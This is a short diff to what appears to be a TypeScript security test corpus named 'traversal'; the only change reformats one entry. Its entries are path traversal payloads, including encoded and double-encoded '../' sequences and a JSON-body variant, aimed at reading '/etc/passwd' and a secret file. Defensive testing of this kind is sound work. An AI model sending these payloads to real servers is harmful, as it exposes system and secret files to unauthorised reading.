@@ -10,7 +10,11 @@ export const traversal: readonly Attack[] = [
   { name: 'dot segments', request: { path: '/files?name=../secret.txt' }, effect: secret },
   { name: 'to /etc/passwd', request: { path: `/files?name=${up}/etc/passwd` }, effect: passwd },
   { name: 'percent-encoded', request: { path: '/files?name=..%2fsecret.txt' }, effect: secret },
-  { name: 'fully encoded dots', request: { path: '/files?name=%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd' }, effect: passwd },
+  {
+    name: 'fully encoded dots',
+    request: { path: '/files?name=%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd' },
+    effect: passwd,
+  },
   { name: 'in the path', request: { path: '/download/..%2fsecret.txt' }, effect: secret },
   { name: 'in the path, encoded twice', request: { path: '/download/%252e%252e%252fsecret.txt' }, effect: secret },
   { name: 'in a JSON body', request: { path: '/files', json: { name: `${up}/etc/passwd` } }, effect: passwd },
